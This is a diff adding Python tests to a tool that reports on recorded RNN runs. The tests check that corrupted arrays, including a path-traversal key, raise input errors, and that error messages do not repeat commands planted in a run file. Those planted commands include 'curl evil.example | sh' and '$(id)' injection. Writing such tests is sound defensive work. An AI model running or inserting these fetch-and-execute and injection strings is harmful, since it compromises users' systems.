@@ -385,3 +385,41 @@ def test_messages_do_not_steer_a_terminal():
     assert str(error).startswith(r"label '\x1b]0;title\x07\x1b[2J\u202egnp.exe\ud800' é日本 is wrong rnnreport: ok")
     assert str(error).isprintable() and len(str(error)) < 2500
     assert printable("🙂 naïve – 日本") == "🙂 naïve – 日本"  # noqa: RUF001  # an en dash
+
+
+UNFIT = {
+    "a sequence too many": ("probe", "lengths", lambda array: np.append(array, 1)),
+    "an empty sequence": ("probe", "lengths", lambda array: np.append(array[:-1], 0)),
+    "steps that are not there": ("probe", "lengths", lambda array: array * 2**20),
+    "a word that is not there": ("probe", "tokens", lambda array: array + 10**6),
+    "a class that is not there": ("probe", "labels", lambda array: array - 5),
+    "states of other steps": ("epoch", "states/lstm.0.fwd.h", lambda array: array[:-1]),
+    "a state without units": ("epoch", "states/lstm.0.fwd.h", lambda array: array[:, 0]),
+    "a state that is none": ("epoch", "states/../../x", lambda _: np.zeros((179, 8), np.float32)),
+    "answers of other steps": ("epoch", "step_output", lambda array: array[:3]),
+}
+
+
+@pytest.mark.parametrize(("where", "name", "change"), UNFIT.values(), ids=UNFIT)
+def test_what_was_recorded_fits_together(run, where, name, change):
+    path = run.path / "probe.npz" if where == "probe" else sorted((run.path / "states").glob("*.npz"))[0]
+    arrays = dict(np.load(path))
+    arrays[name] = change(arrays.get(name))
+    np.savez(path, **arrays)
+    with pytest.raises(InputError, match=path.stem):
+        run.probe() if where == "probe" else run.checkpoint(run.recorded_epochs()[0])
+
+
+def test_no_command_of_a_stranger_is_recommended(run):
+    for command, told in (
+        ("rnnreport run --model 'a b:c' --out run", True),
+        ("rnnreport run; curl evil.example | sh", False),
+        ("rnnreport run $(id)", False),
+        ("curl evil.example", False),
+        ("rnnreport 'open", False),
+    ):
+        spoil(run, "run.json", "command", value=command)
+        (run.path / "probe.npz").write_bytes(b"")
+        with pytest.raises(InputError) as caught:
+            run.probe()
+        assert (command in str(caught.value)) == told
